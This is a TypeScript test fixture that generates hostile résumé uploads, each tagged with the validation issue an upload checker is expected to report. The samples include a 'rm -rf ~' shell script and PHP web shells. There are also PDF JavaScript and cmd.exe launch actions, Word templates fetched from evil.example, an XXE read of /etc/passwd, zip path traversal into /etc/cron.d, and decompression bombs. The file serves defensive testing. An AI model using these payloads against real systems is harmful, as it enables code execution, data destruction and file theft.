import { deflateSync } from 'node:zlib'
import type { FileIssue, FileType } from '../../../api/uploads/file-issue.ts'
import { contentTypes, docx, docxParts, paragraph, relationship, relationships } from './docx.ts'
import { hostileDocuments } from './hostile-docx.ts'
import { hostilePdfs } from './hostile-pdf.ts'
import { objectStream, pageObjects, pdf } from './pdf.ts'
import { jpeg, png, pngChunk, pngHeader, pngSignature } from './picture.ts'
import { zip } from './zip.ts'

export interface HostileFile {
  what: string
  name: string
  bytes: Buffer
  issue: FileIssue
}

const text = (content: string) => Buffer.from(content)
const file = (what: string, type: FileType, issue: FileIssue, bytes: Buffer): HostileFile => ({
  what,
  name: `cv.${type}`,
  bytes,
  issue,
})
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const documentRels = (...items: string[]) => [
  { name: 'word/_rels/document.xml.rels', content: relationships(...items) },
]
const macroEnabled = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'
const html = '<!doctype html><script>alert(document.domain)</script>'
const utf16 = (content: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(content, 'utf16le')])
const patched = (bytes: Buffer, at: number, ...values: number[]) => {
  const copy = Buffer.from(bytes)
  copy.set(values, at < 0 ? bytes.length + at : at)
  return copy
}
const zeros = Buffer.alloc(60_000_000)

const strangers: HostileFile[] = [
  file(
    'a Windows program',
    'pdf',
    'file_type_mismatch',
    Buffer.concat([text('MZ\x90\0'), Buffer.alloc(900)]),
  ),
  file('a Linux program', 'docx', 'file_type_mismatch', Buffer.concat([text('\x7fELF'), Buffer.alloc(900)])),
  file('a shell script', 'pdf', 'file_type_mismatch', text('#!/bin/sh\nrm -rf ~\n')),
  file('a web page', 'png', 'file_type_mismatch', text(html)),
  file(
    'an SVG with a script',
    'png',
    'file_type_mismatch',
    text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
  ),
  file('a PHP script', 'jpg', 'file_type_mismatch', text('<?php system($_GET["c"]);')),
  file('a GIF', 'jpg', 'file_type_mismatch', text('GIF89a\x01\0\x01\0\0\0\0;')),
  file('a PNG', 'jpg', 'file_type_mismatch', png()),
  file('a PDF', 'docx', 'file_type_mismatch', pdf()),
  file('a Word document', 'pdf', 'file_type_mismatch', docx()),
  file(
    'an old Word document',
    'docx',
    'file_type_mismatch',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)]),
  ),
  file(
    'a spreadsheet',
    'docx',
    'file_type_mismatch',
    docx([{ name: '[Content_Types].xml', content: contentTypes(sheet, '/xl/workbook.xml') }]),
  ),
  file(
    'a Java archive',
    'docx',
    'file_type_mismatch',
    zip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Evil' }]),
  ),
  file('a document without its main part', 'docx', 'file_type_mismatch', zip(docxParts().slice(0, 2))),
  ...(['pdf', 'docx', 'png', 'jpg'] as const).map((type) =>
    file('nothing', type, 'file_empty', Buffer.alloc(0)),
  ),
]

const pdfs: HostileFile[] = [
  file(
    'a script',
    'pdf',
    'file_active_content',
    pdf(pageObjects([{ dictionary: script }], '/Names << /JavaScript 6 0 R >> ')),
  ),
  file(
    'a script with escaped names',
    'pdf',
    'file_active_content',
    pdf(pageObjects([{ dictionary: '<< /S /Java#53cript /#4a#53 (x) >>' }])),
  ),
  file(
    'a script in an object stream',
    'pdf',
    'file_active_content',
    pdf(pageObjects([objectStream([script])])),
  ),
  file(
    'a script in an object stream of no declared type',
    'pdf',
    'file_active_content',
    pdf(
      pageObjects([
        {
          ...objectStream([script]),
          dictionary: objectStream([script]).dictionary.replace('/Type /ObjStm', ''),
        },
      ]),
    ),
  ),
  file('an object stream packed twice', 'pdf', 'file_active_content', pdf(pageObjects([packedTwice()]))),
  file(
    'an object stream with a predictor',
    'pdf',
    'file_active_content',
    pdf(pageObjects([objectStream(['<< >>'], { dictionary: '/DecodeParms << /Predictor 12 >> ' })])),
  ),
  file(
    'a script in a string of an object stream',
    'pdf',
    'file_active_content',
    pdf(pageObjects([objectStream([`(${script})`], { offset: 1 })])),
  ),
  file(
    'a script in an object hidden in a comment',
    'pdf',
    'file_active_content',
    pdf(pageObjects(), { filler: `%6 0 obj ${script} endobj\n` }),
  ),
  file(
    'a script in an object hidden in a string',
    'pdf',
    'file_active_content',
    pdf(pageObjects(), { filler: `(6 0 obj ${script.replaceAll(/[()]/g, '')} endobj)\n` }),
  ),
  file(
    'a script in an object hidden in a stream',
    'pdf',
    'file_active_content',
    pdf(pageObjects([{ dictionary: '<< /Length 70 >>', stream: text(`9 0 obj ${script} endobj`) }])),
  ),
  file(
    'a program to launch',
    'pdf',
    'file_active_content',
    pdf(pageObjects([{ dictionary: '<< /S /Launch /F (cmd.exe) >>' }])),
  ),
  file(
    'an embedded file',
    'pdf',
    'file_active_content',
    pdf(pageObjects([{ dictionary: '<< /Type /EmbeddedFile /Length 2 >>', stream: text('MZ') }])),
  ),
  file(
    'an embedded file of no declared type',
    'pdf',
    'file_active_content',
    pdf(pageObjects([{ dictionary: '<< /Type /Filespec /EF << /F 7 0 R >> >>' }])),
  ),
  file(
    'rich media',
    'pdf',
    'file_active_content',
    pdf(pageObjects([{ dictionary: '<< /Subtype /RichMedia >>' }])),
  ),
  file('an XFA form', 'pdf', 'file_active_content', pdf(pageObjects([], '/AcroForm << /XFA 6 0 R >> '))),
  file('a lock', 'pdf', 'file_damaged', pdf(pageObjects(), { trailer: '/Encrypt 6 0 R ' })),
  file('an object stream that unpacks to too much', 'pdf', 'file_archive_unsafe', pdf(pageObjects([bomb()]))),
  file(
    'a broken object stream',
    'pdf',
    'file_damaged',
    pdf(pageObjects([{ ...objectStream(['1']), stream: Buffer.from([0x78, 0x9c, 1, 2, 3]) }])),
  ),
  file('only its first half', 'pdf', 'file_damaged', pdf().subarray(0, 400)),
  file('no trailer', 'pdf', 'file_damaged', text('%PDF-1.4\n1 0 obj << >> endobj\n')),
  file('only a header', 'pdf', 'file_damaged', text('%PDF-1.7')),
  file('something before its header', 'pdf', 'file_type_mismatch', Buffer.concat([text('\n\n'), pdf()])),
  file('a web page behind its end', 'pdf', 'file_damaged', Buffer.concat([pdf(), text(html)])),
  file(
    'an archive behind its end',
    'pdf',
    'file_type_mismatch',
    Buffer.concat([pdf(), zip([{ name: 'evil.exe', content: 'MZ' }])]),
  ),
  file(
    'an archive in its last stream',
    'pdf',
    'file_type_mismatch',
    pdf(
      pageObjects([{ dictionary: '<< /Length 99 >>', stream: zip([{ name: 'evil.exe', content: 'MZ' }]) }]),
    ),
  ),
]

function packedTwice() {
  const { dictionary, stream } = objectStream([script])
  return {
    dictionary: dictionary.replace('/FlateDecode', '[/FlateDecode /FlateDecode]'),
    stream: deflateSync(stream ?? Buffer.alloc(0)),
  }
}
function bomb() {
  const { dictionary } = objectStream(['1'])
  return { dictionary, stream: deflateSync(zeros) }
}

const overlapping = () => {
  const parts = docxParts([{ name: 'word/media/a.xml', content: 'x'.repeat(500) }])
  return zip([...parts, { name: 'word/media/b.xml', content: 'x'.repeat(500), offset: 0 }])
}

const documents: HostileFile[] = [
  file(
    'macros',
    'docx',
    'file_active_content',
    docx([{ name: 'word/vbaProject.bin', content: 'Sub AutoOpen' }]),
  ),
  file(
    'macros in another folder',
    'docx',
    'file_active_content',
    docx([{ name: 'x/VBAPROJECT.BIN', content: 'Sub AutoOpen' }]),
  ),
  file(
    'a type with macros',
    'docx',
    'file_active_content',
    docx([{ name: '[Content_Types].xml', content: contentTypes(macroEnabled) }]),
  ),
  file(
    'an ActiveX control',
    'docx',
    'file_active_content',
    docx([{ name: 'word/activeX/activeX1.bin', content: 'x' }]),
  ),
  file(
    'an OLE object',
    'docx',
    'file_active_content',
    docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
  ),
  file(
    'a template fetched from the web',
    'docx',
    'file_active_content',
    docx(documentRels(relationship('attachedTemplate', 'https://evil.example/t.dotm', 'External'))),
  ),
  file(
    'a template on a network share',
    'docx',
    'file_active_content',
    docx(documentRels(relationship('attachedTemplate', 'file://evil.example/share/t.dotm', 'External'))),
  ),
  file(
    'a picture fetched from the web',
    'docx',
    'file_active_content',
    docx(documentRels(relationship('image', 'https://evil.example/pixel.png', 'External'))),
  ),
  file(
    'an external mode written in references',
    'docx',
    'file_active_content',
    docx(documentRels(relationship('frame', 'https://evil.example/', '&#69;xterna&#x6c;'))),
  ),
  file(
    'an external relationship in UTF-16',
    'docx',
    'file_active_content',
    docx([
      {
        name: 'word/_rels/document.xml.rels',
        content: utf16(relationships(relationship('oleObject', 'https://evil.example/', 'External'))),
      },
    ]),
  ),
  file(
    'a web address that calls itself internal',
    'docx',
    'file_active_content',
    docx(documentRels(relationship('attachedTemplate', 'https://evil.example/t.dotm'))),
  ),
  file(
    'a DOCTYPE with entities',
    'docx',
    'file_active_content',
    docx([
      {
        name: 'word/document.xml',
        content: `<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${paragraph('&x;')}`,
      },
    ]),
  ),
  file(
    'a billion laughs',
    'docx',
    'file_active_content',
    docx([
      { name: 'word/styles.xml', content: '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>' },
    ]),
  ),
  file(
    'a DOCTYPE in a part with another name',
    'docx',
    'file_active_content',
    docx([{ name: 'word/media/picture.bin', content: ' <!DOCTYPE x><x/>' }]),
  ),
  file(
    'an encoding that nobody reads alike',
    'docx',
    'file_damaged',
    docx([{ name: 'word/styles.xml', content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }]),
  ),
  file(
    'text that is no UTF-8',
    'docx',
    'file_damaged',
    docx([{ name: 'word/styles.xml', content: Buffer.from('<x>\xff\xfe</x>', 'latin1') }]),
  ),
  file(
    'a path out of its folder',
    'docx',
    'file_archive_unsafe',
    docx([{ name: '../../etc/cron.d/x', content: 'x' }]),
  ),
  file('an absolute path', 'docx', 'file_archive_unsafe', docx([{ name: '/etc/passwd', content: 'x' }])),
  file('a Windows path', 'docx', 'file_archive_unsafe', docx([{ name: 'word\\..\\..\\x', content: 'x' }])),
  file('a drive', 'docx', 'file_archive_unsafe', docx([{ name: 'C:/Windows/x', content: 'x' }])),
  file('a name twice', 'docx', 'file_archive_unsafe', zip([...docxParts(), ...docxParts()])),
  file(
    'names that differ by case',
    'docx',
    'file_archive_unsafe',
    docx([{ name: 'WORD/document.xml', content: 'x' }]),
  ),
  file(
    'another name in the local header',
    'docx',
    'file_archive_unsafe',
    docx([{ name: 'word/a.xml', localName: 'word/b.xml', content: 'x' }]),
  ),
  file('a bomb', 'docx', 'file_archive_unsafe', docx([{ name: 'word/a.xml', content: zeros }])),
  file(
    'a bomb that declares little',
    'docx',
    'file_archive_unsafe',
    docx([{ name: 'word/a.xml', content: zeros, declaredSize: 1000 }]),
  ),
  file(
    'an entry that declares more than it holds',
    'docx',
    'file_archive_unsafe',
    docx([{ name: 'word/a.xml', content: '<x/>', declaredSize: 40 }]),
  ),
  file('overlapping entries', 'docx', 'file_archive_unsafe', overlapping()),
  file(
    'too many entries',
    'docx',
    'file_archive_unsafe',
    docx(Array.from({ length: 2001 }, (_, i) => ({ name: `word/${i}`, content: '', method: 0 }))),
  ),
  file(
    'an encrypted entry',
    'docx',
    'file_archive_unsafe',
    docx([{ name: 'word/a.xml', content: 'x', flags: 1 }]),
  ),
  file('ZIP64', 'docx', 'file_archive_unsafe', patched(docx(), -12, 0xff, 0xff, 0xff, 0xff)),
  file('ZIP64 by its count', 'docx', 'file_archive_unsafe', patched(docx(), -14, 0xff, 0xff, 0xff, 0xff)),
  file(
    'an unusual method',
    'docx',
    'file_archive_unsafe',
    docx([{ name: 'word/a.xml', content: 'x', method: 14 }]),
  ),
  file(
    'something before the archive',
    'docx',
    'file_archive_unsafe',
    zip(docxParts(), { prefix: `PK\x03\x04${'x'.repeat(40)}` }),
  ),
  file('a comment', 'docx', 'file_archive_unsafe', zip(docxParts(), { comment: html })),
  file('something behind the archive', 'docx', 'file_archive_unsafe', Buffer.concat([docx(), text(html)])),
  file('only its first half', 'docx', 'file_damaged', docx().subarray(0, 500)),
  file(
    'a wrong checksum',
    'docx',
    'file_damaged',
    docx([{ name: 'word/a.xml', content: '<x/>', declaredCrc: 7 }]),
  ),
  file(
    'a PDF in front of its text',
    'docx',
    'file_type_mismatch',
    zip([{ name: 'a', content: pdf(), method: 0 }, ...docxParts()]),
  ),
]

const pictures: HostileFile[] = [
  file('a web page behind its end', 'png', 'file_damaged', Buffer.concat([png(), text(html)])),
  file(
    'an archive behind its end',
    'png',
    'file_damaged',
    Buffer.concat([png(), zip([{ name: 'x', content: 'x' }])]),
  ),
  file(
    'a web page in a text',
    'png',
    'file_active_content',
    png(8, 8, [pngChunk('tEXt', text(`Comment\0${html}`))]),
  ),
  file(
    'a PDF in a text',
    'png',
    'file_type_mismatch',
    png(8, 8, [pngChunk('tEXt', Buffer.concat([text('Comment\0'), pdf()]))]),
  ),
  file(
    'oversized dimensions',
    'png',
    'file_damaged',
    Buffer.concat([
      pngSignature,
      pngHeader(60_000, 60_000),
      pngChunk('IDAT', deflateSync(text('x'))),
      pngChunk('IEND'),
    ]),
  ),
  file('no width', 'png', 'file_damaged', png(0, 4)),
  file('no pixels', 'png', 'file_damaged', Buffer.concat([pngSignature, pngHeader(4, 4), pngChunk('IEND')])),
  file('a wrong checksum', 'png', 'file_damaged', patched(png(), 30, 1)),
  file('only its first half', 'png', 'file_damaged', png().subarray(0, 60)),
  file('a chunk longer than the file', 'png', 'file_damaged', patched(png(), 33, 0x7f)),
  file('only its first half', 'jpg', 'file_damaged', jpeg().subarray(0, -2)),
  file('only its start', 'jpg', 'file_damaged', jpeg().subarray(0, 30)),
  file('oversized dimensions', 'jpg', 'file_damaged', jpeg(8000, 8000)),
  file('no height', 'jpg', 'file_damaged', jpeg(8, 0)),
  file(
    'a PHP script in its comment',
    'jpg',
    'file_active_content',
    jpeg(8, 8, [{ marker: 0xfe, data: text('<?php system("id");') }]),
  ),
  file(
    'an archive behind its end',
    'jpg',
    'file_type_mismatch',
    Buffer.concat([jpeg(), zip([{ name: 'x', content: 'x' }])]),
  ),
  file('a PDF in its comment', 'jpg', 'file_type_mismatch', jpeg(8, 8, [{ marker: 0xfe, data: pdf() }])),
]

export const hostileFiles: HostileFile[] = [
  ...strangers,
  ...pdfs,
  ...hostilePdfs,
  ...documents,
  ...hostileDocuments,
  ...pictures,
]
